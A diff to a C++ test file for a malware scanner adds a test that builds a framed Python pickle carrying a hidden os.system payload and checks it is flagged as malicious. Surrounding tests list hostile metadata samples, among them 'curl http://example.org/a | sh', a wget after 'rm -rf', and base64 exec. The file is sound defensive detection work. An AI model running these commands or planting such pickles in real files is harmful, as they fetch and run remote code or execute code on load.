@@ -39,6 +39,17 @@ TEST(JudgeCarried, LeavesThoseAloneThatHoldDataAndTextsThatAreNone) {
   EXPECT_EQ(VerdictOf("a.pkl", Holding("gAAAAABlX-not-a-pickle-at-all")), "clean");
   EXPECT_EQ(VerdictOf("a.pkl", Holding("classes\nof images\n")), "clean");
 }
+TEST(JudgeCarried, CallsWhatOneReaderOfPythonRunsByItsName) {
+  const auto framed = [](int frame, std::string_view value) {
+    Builder builder;
+    builder.Proto(5).Byte(0x95).Little(static_cast<uint64_t>(frame)).Byte('B').Little(static_cast<uint32_t>(value.size())).Raw(value);
+    return Told("a.pkl", builder.Stop().bytes());
+  };
+  const std::string hidden = std::string("\0\0", 2) + "cos\nsystem\nVecho\n\x85R" + std::string(40, 'N');
+  EXPECT_EQ(framed(2, hidden), "pickle malicious carried-pickle");
+  EXPECT_EQ(framed(2, std::string(60, 'N')), "pickle suspicious odd-pickle");
+  EXPECT_EQ(framed(static_cast<int>(hidden.size()) + 6, hidden), "pickle clean");  // a value like any other
+}
 TEST(JudgeMetadata, TellsOfPrograms) {
   for (std::string_view value : {"import os; os.system('x')", "exec(base64.b64decode('eA=='))", "rm -rf /tmp/x && wget http://example.org/a",
                                  "<script>fetch('a')</script>", "__import__('os')", "from subprocess import run\\nrun('x')", "curl http://example.org/a | sh"})
